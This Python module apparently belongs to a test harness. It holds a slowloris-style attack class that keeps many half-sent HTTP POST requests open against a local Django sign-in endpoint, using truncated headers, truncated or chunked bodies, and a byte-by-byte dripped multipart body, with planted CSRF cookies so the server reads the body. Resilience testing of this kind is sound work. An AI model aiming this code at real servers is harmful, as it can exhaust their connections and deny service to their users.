"""Requests that are never sent whole: as many as asked for are kept open, and each that the server ends is begun anew."""

import asyncio
import contextlib
import random
from dataclasses import dataclass, field

BOUNDARY = "half-sent"
# With a token in its cookie, or Django refuses before it reads the body.
COOKIES = "; ".join(f"{name}={'a' * 32}" for name in ("csrftoken", "__Host-csrf"))
START = (
    "POST /sign-in/ HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-Proto: https\r\n"
    f"Origin: https://localhost\r\nCookie: {COOKIES}\r\n"
)
# What arrives of each kind, and whether more drips in.
KINDS = {
    "headers break off": START.encode(),
    "body breaks off": (
        f"{START}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\nusername=somebody"
    ).encode(),
    "pieces break off": (f"{START}Transfer-Encoding: chunked\r\n\r\n4\r\nuser\r\n").encode(),
    "body drips": (
        f"{START}Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: 60000\r\n\r\n--{BOUNDARY}\r\n"
    ).encode(),
}
DRIP_EVERY = 1.0  # seconds


@dataclass
class Attack:
    """So many half-sent requests at a time, until it is stopped."""

    port: int
    size: int
    seed: int
    begun: int = 0
    refused: int = 0
    open: int = 0
    tasks: list[asyncio.Task[None]] = field(default_factory=list)

    async def start(self) -> None:
        """Opens all of them, and returns when the first round was sent."""
        chance = random.Random(self.seed)
        for _ in range(self.size):
            self.tasks.append(asyncio.create_task(self._keep_one(chance.choice(sorted(KINDS)))))
        while self.begun < self.size:
            await asyncio.sleep(0.05)

    async def stop(self) -> None:
        """Closes all of them."""
        for task in self.tasks:
            task.cancel()
        await asyncio.gather(*self.tasks, return_exceptions=True)

    async def _keep_one(self, kind: str) -> None:
        while True:
            with contextlib.suppress(OSError):
                await self._one(kind)
            await asyncio.sleep(0.2)

    async def _one(self, kind: str) -> None:
        self.begun += 1
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
        self.open += 1
        try:
            writer.write(KINDS[kind])
            await writer.drain()
            while True:
                try:
                    ended = await asyncio.wait_for(reader.read(1), DRIP_EVERY)
                except TimeoutError:
                    if kind == "body drips":
                        writer.write(b"x")
                        await writer.drain()
                    continue
                self.refused += 1 if ended else 0
                return
        finally:
            self.open -= 1
            writer.close()
